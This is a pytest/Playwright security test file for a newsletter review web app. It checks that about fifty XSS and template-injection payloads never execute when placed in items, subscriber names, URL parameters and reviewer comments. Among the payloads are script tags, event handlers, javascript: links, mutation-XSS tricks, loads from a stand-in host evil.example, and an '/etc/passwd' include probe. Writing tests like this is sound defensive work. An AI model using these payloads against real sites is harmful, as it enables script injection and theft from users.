"""Script shapes in every text that others write, in a real browser: nothing runs, nothing is asked of another host."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Page, Route

from newsletter.workspace import Workspace
from tests.room_server import ROOT, Opened, RoomProcess, fill_workspace, running_room

pytestmark = [pytest.mark.service, pytest.mark.slow]

RUN = "top.__hit=1"  # whatever runs leaves this behind; each element of a shape is marked data-evil
EVIL = "//evil.example"
PRODUCT = str(7191 * 7193)
SHAPES = [
    f"<script data-evil>{RUN}</script>",
    f'"><script data-evil>{RUN}</script>',
    f"'><script data-evil>{RUN}</script>",
    f"</title><script data-evil>{RUN}</script>",
    f"</textarea><script data-evil>{RUN}</script>",
    f"</style><script data-evil>{RUN}</script>",
    f"</pre></details></section><script data-evil>{RUN}</script>",
    f"--><script data-evil>{RUN}</script>",
    f"]]><script data-evil>{RUN}</script>",
    f"</script><script data-evil>{RUN}</script>",
    f"<ScRiPt data-evil src={EVIL}/x.js></sCrIpT>",
    f"<img data-evil src=x onerror={RUN}>",
    f"<IMG data-evil SRC=x OnErRoR={RUN}>",
    f"<svg data-evil onload={RUN}>",
    f"<svg data-evil><script>{RUN}</script></svg>",
    f"<body data-evil onload={RUN}>",
    f'<iframe data-evil src="javascript:{RUN}"></iframe>',
    f'<iframe data-evil srcdoc="<script>{RUN}</script>"></iframe>',
    f'"></iframe><script data-evil>{RUN}</script>',
    f'<a data-evil href="javascript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x](javascript:{RUN})",
    f'<a data-evil href="jav&#x09;ascript:{RUN}">x</a>',
    f'<form data-evil action="{EVIL}"><button>x</button></form>',
    f'<button data-evil formaction="javascript:{RUN}">x</button>',
    f"<input data-evil autofocus onfocus={RUN}>",
    f"<details data-evil open ontoggle={RUN}>",
    f'<meta data-evil http-equiv=refresh content="0;url={EVIL}/">',
    f'<base data-evil href="{EVIL}/">',
    f'<link data-evil rel=stylesheet href="{EVIL}/x.css">',
    f"<style data-evil>@import '{EVIL}/x.css';</style>",
    f'<div data-evil style="background:url({EVIL}/x.png)">x</div>',
    f'<div data-evil style="width:expression({RUN})">x</div>',
    f'<object data-evil data="{EVIL}/x"></object>',
    f'<embed data-evil src="{EVIL}/x">',
    f"<video data-evil src=x onerror={RUN}></video>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-evil src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img data-evil src=x onerror={RUN}>">',
    f"<template shadowrootmode=open><script data-evil>{RUN}</script></template>",
    f"<!--block 0.0--><script data-evil>{RUN}</script><!--end 0.0-->",
    f"&lt;img data-evil src=x onerror={RUN}&gt;",
    f"&amp;lt;img data-evil src=x onerror={RUN}&amp;gt;",
    f'" onmouseover="{RUN}" data-evil="',
    f"' autofocus onfocus='{RUN}' data-evil='",
    "{{7191*7193}} {% raw %} ${7191*7193} #{7191*7193}",
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}",
    f"\\u003cimg data-evil src=x onerror={RUN}\\u003e",
]
NAMES = [shape for shape in SHAPES if "/" not in shape and len(shape) < 60][:2]  # that a file may bear
FRONT = ("title", "subject", "preheader", "rubric", "author")
TABS = ("findings", "text", "source", "wire", "found", "changes", "review")


def fronted(number: int, body: str, **more: str) -> str:
    """Return an item whose every header is a shape."""
    headers = {name: SHAPES[(number * len(FRONT) + at) % len(SHAPES)] for at, name in enumerate(FRONT)} | more
    lines = [f"{name}: {json.dumps(value, ensure_ascii=False)}" for name, value in headers.items()]
    return "\n".join(["---", *lines, "date: 2026-11-20", "---", body])


def write_items(root: Path) -> list[Path]:
    """Write the hostile items into `content/`; return what each desk is of."""
    content = root / "content"
    written = [one for one in SHAPES if "](" not in one]  # a link that is none is refused before anything is shown
    everything = "\n\n".join([*written, *(f"«{one}», — сказал директор {one}." for one in written[:20])])
    refused = (EVIL, "javascript:", "src=x", "src=1", "SRC=x")
    page = "</p><p>".join(one for one in written if not any(word in one for word in refused))
    files = {
        "evil.txt": f"{everything}\n",
        "evil.html": f"<article><h1>Цех</h1><p>{page}</p></article>",
    }
    files["evil.md"] = fronted(
        0, f"{everything}\n\n## {SHAPES[11]}\n\n- {SHAPES[11]}\n\n| a | {SHAPES[0]} |\n|-|-|\n| {SHAPES[0]} | b |\n"
    )
    for number in range(1, 1 + len(SHAPES) // len(FRONT)):
        files[f"front{number}.md"] = fronted(number, "Завод открыл цех.")
    files |= {f"{name}.md": fronted(3, "Завод открыл цех.") for name in NAMES}
    # For the control: what stays on the page while it runs.
    files["control.md"] = f"---\ntitle: x\n---\nЦех.\n\n{SHAPES[0]}\n\n{SHAPES[11]}\n\n{SHAPES[10]}\n"
    files["refused.md"] = fronted(4, "\n\n".join(one for one in SHAPES if "](" in one))
    files["broken.md"] = f"---\ntitle: [{SHAPES[0]}\n{SHAPES[11]}\n---\nТекст.\n"
    files["theme.md"] = fronted(5, "Завод открыл цех.", template="evil")
    for name, text in files.items():
        (content / name).write_text(text, encoding="utf-8")
    theme = root / "templates" / "evil"
    theme.mkdir()
    (theme / "letter.mjml").write_text(f"<mjml><mj-body>\n{SHAPES[0]}\n{{{{ {SHAPES[11]} }}}}\n", encoding="utf-8")
    (theme / "letter.txt").write_text("x", encoding="utf-8")
    return [content / name for name in files]


@pytest.fixture(scope="module")
def evil_room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RoomProcess]:
    """A room whose items, names and subscribers are all hostile."""
    workspace = fill_workspace(tmp_path_factory.mktemp("evil"))
    write_items(workspace.root)
    rows = [f'user{number}@reader.example,"{one.replace(chr(34), chr(34) * 2)}"' for number, one in enumerate(SHAPES)]
    (workspace.root / "evil.csv").write_text("\n".join(["email,name", *rows]) + "\n", encoding="utf-8")
    newsletter(workspace, "subscribers", "import", "evil.csv", "--list", "press")
    with running_room(workspace) as room:
        yield room


def newsletter(workspace: Workspace, *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "newsletter", *arguments]
    environ = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
    done = subprocess.run(command, cwd=workspace.root, env=environ, capture_output=True, text=True, check=False)
    assert done.returncode in (0, 1), done.stderr
    return done


@dataclass  # no slots: Playwright marks whose method it calls
class Watch:
    """All that a page did which no text may make it do."""

    page: Page
    home: str
    done: list[str] = field(default_factory=list)

    @classmethod
    def over(cls, page: Page, home: str) -> Watch:
        watch = cls(page, home)
        page.context.route("**/*", watch.pass_or_note)
        page.on("dialog", watch.note_dialog)
        page.on("framenavigated", lambda frame: watch.note_place(frame.url))
        page.on("popup", lambda popup: watch.done.append(f"popup {popup.url}"))
        page.on("console", lambda message: watch.note_words(message.text))
        page.on("pageerror", lambda error: watch.done.append(f"error {error}"))
        return watch

    def pass_or_note(self, route: Route) -> None:
        if route.request.url.startswith(self.home):
            route.continue_()
        else:
            self.done.append(f"request {route.request.url}")
            route.abort()

    def note_dialog(self, dialog: Dialog) -> None:
        self.done.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def note_place(self, url: str) -> None:
        if not url.startswith((self.home, "about:blank", "about:srcdoc")):
            self.done.append(f"navigation {url}")

    def note_words(self, text: str) -> None:
        # A policy that had to step in is an escape that failed; but pictures of other hosts are what it is there for.
        if re.search("Content.Security.Policy", text) and "img-src" not in text:
            self.done.append(f"policy {text}")

    def look(self) -> list[str]:
        """Return everything wrong until now, in the page and in all its frames."""
        found = list(self.done)
        for frame in self.page.frames:
            if frame.evaluate("window.__hit") is not None:
                found.append(f"{frame.url} ran")
            if marked := frame.evaluate("[...document.querySelectorAll('[data-evil]')].map(one => one.outerHTML)"):
                found.append(f"{frame.url} holds {marked[:2]}")
            if PRODUCT in frame.evaluate("document.documentElement.textContent"):
                found.append(f"{frame.url} was computed")
        return found


def open_desk(page: Page, room: RoomProcess, item: Path, query: str = "") -> None:
    page.goto(f"{room.desk(item)}{query}")
    page.locator("body[data-shown]").wait_for()


def drive(page: Page, watch: Watch) -> None:
    """Open every tab, every fold, every kind of reader and simulation of a desk."""
    names = page.locator("[role=tab]").evaluate_all("tabs => tabs.map(tab => tab.id.slice(4))")
    assert set(TABS) <= set(names)
    for name in names:
        with page.expect_response(re.compile(f"/panel/{name}")):
            page.locator(f"#tab-{name}").click()
        page.locator(f"#panel-{name} > *").first.wait_for(state="attached")
        page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    assert watch.look() == []


BROKEN = ("broken.md", "refused.md", "theme.md")  # what the page shows of them is the error
ITEMS = ("evil.md", "evil.txt", "evil.html", *BROKEN, *(f"front{one}.md" for one in range(1, 10)),
         *(f"{name}.md" for name in NAMES))  # fmt: skip


@pytest.mark.parametrize("item", ITEMS)
def test_no_text_of_an_item_runs_in_the_page_or_its_frames(opened: Opened, evil_room: RoomProcess, item: str) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    open_desk(page, evil_room, evil_room.workspace.content / item)
    drive(page, watch)
    assert page.locator("[data-panel=fault] > *").count() == (item in BROKEN)


def test_the_list_runs_nothing(opened: Opened, evil_room: RoomProcess) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    page.goto(evil_room.home)
    assert page.locator("li.issue").count() >= len(ITEMS)
    assert watch.look() == []


def test_no_name_of_a_subscriber_runs(opened: Opened, evil_room: RoomProcess) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    open_desk(page, evil_room, evil_room.workspace.content / "2026-11-zarechye-export.md")
    page.locator("#reader-button").click()
    for word in ("<", "script", "onerror", SHAPES[11], SHAPES[1]):
        with page.expect_response(re.compile("/people")):
            page.locator("[data-people]").fill(word)
        page.locator("[data-people-results] .people, [data-people-results] .hint").first.wait_for()
        assert watch.look() == []
    for number in (1, 12, 30, 45):
        open_desk(page, evil_room, evil_room.workspace.content / "2026-11-zarechye-export.md", f"?as=s{number}")
        drive(page, watch)


@pytest.mark.parametrize("simulation", ["nostyle", "nohead", "mso"])
@pytest.mark.parametrize("reader", ["x-html", "s12"])
def test_no_simulation_wakes_anything(opened: Opened, evil_room: RoomProcess, simulation: str, reader: str) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    query = f"?simulation={simulation}&as={reader}&two=1&dark2=inverted&width=360"
    open_desk(page, evil_room, evil_room.workspace.content / "evil.md", query)
    assert watch.look() == []


def test_no_address_of_the_page_runs(opened: Opened, evil_room: RoomProcess) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    for shape in SHAPES[1:30:6]:
        values = dict.fromkeys(("as", "variant", "width", "dark", "pictures", "simulation", "tab", "two"), shape)
        page.goto(f"{evil_room.desk(evil_room.workspace.content / 'optika.md')}?{urlencode(values)}")
        page.locator("body[data-shown]").wait_for()
        assert watch.look() == []
    page.goto(f"{evil_room.home}i/%3Cimg%20src=x%20onerror={RUN}%3E/")
    assert watch.look() == []


def test_no_word_of_a_reviewer_runs(opened: Opened, evil_room: RoomProcess) -> None:
    page = opened("")
    watch = Watch.over(page, evil_room.home)
    item = evil_room.workspace.content / "optika.md"
    open_desk(page, evil_room, item)
    digest = json.loads(page.locator("body").get_attribute("data-pulse") or "{}")["mail"]
    taken = 0
    for number, shape in enumerate(SHAPES):
        for name, values in (
            ("comment", {"name": "Анна", "text": shape, "block": "0.0", "digest": digest}),
            ("comment", {"name": shape[:60], "text": "Текст", "block": "", "digest": digest}),
            ("decide", {"verdict": "rejected", "name": "Анна", "note": shape, "list": "", "digest": digest}),
        ):
            if name == "decide" and number % 8:
                continue  # each compiles and checks anew
            answer = page.evaluate(
                "async ([name, values]) => (await fetch(`${document.body.dataset.base}/${name}`, {method: 'POST',"
                " headers: {'Content-Type': 'application/json'}, body: JSON.stringify(values)})).status",
                [name, values],
            )
            assert answer in (200, 400, 409)
            taken += answer == 200
    assert taken > len(SHAPES)
    drive(page, watch)
    # A refusal repeats what was typed.
    page.locator("#tab-review").click()
    page.locator("form[data-post=decide] input[name=name]").fill(SHAPES[11])
    page.locator("form[data-post=decide] textarea").fill(SHAPES[0])
    with page.expect_response(re.compile("/decide")):
        page.locator("form[data-post=decide] button[value=rejected]").click()
    assert watch.look() == []


@pytest.mark.parametrize("item", ["evil.md", "evil.html"])
def test_the_page_for_the_boss_runs_nothing(opened: Opened, evil_room: RoomProcess, item: str) -> None:
    file = evil_room.workspace.root / f"{item}.html"
    newsletter(evil_room.workspace, "preview", f"content/{item}", "--export", file.name)
    page = opened("")
    watch = Watch.over(page, file.as_uri())
    page.goto(file.as_uri())
    assert watch.look() == []
    assert len(page.frames) == 4


def test_this_would_be_seen_without_escapes_and_policies(opened: Opened, evil_room: RoomProcess) -> None:
    """The control: the same text with its escapes undone and the policy taken away does run, and is seen."""
    page = opened("")
    watch = Watch.over(page, evil_room.home)

    dropped = ("content-security-policy", "content-length")

    def bare(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("&lt;", "<").replace("&gt;", ">").replace("&#34;", '"').replace("&quot;", '"')
        headers = {name: value for name, value in answer.headers.items() if name not in dropped}
        route.fulfill(status=200, headers=headers, body=body)

    page.context.route(re.compile("/panel/text"), bare)
    page.goto(f"{evil_room.desk(evil_room.workspace.content / 'control.md')}panel/text")
    page.wait_for_function("() => window.__hit === 1")
    seen = watch.look()
    assert any(one.endswith("ran") for one in seen)
    assert any("holds" in one for one in seen)
    assert f"request http:{EVIL}/x.js" in seen
